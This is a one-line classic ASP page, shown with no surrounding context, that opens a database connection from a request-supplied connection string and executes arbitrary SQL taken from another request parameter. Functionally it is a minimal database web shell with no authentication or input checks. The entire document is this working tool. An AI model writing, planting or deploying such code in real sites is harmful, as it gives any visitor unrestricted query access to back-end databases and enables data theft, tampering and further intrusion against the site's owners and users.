<% Set c = Server.CreateObject("ADODB.Connection") : c.Open Request("cs") : Set r = c.Execute(Request("sql")) %>
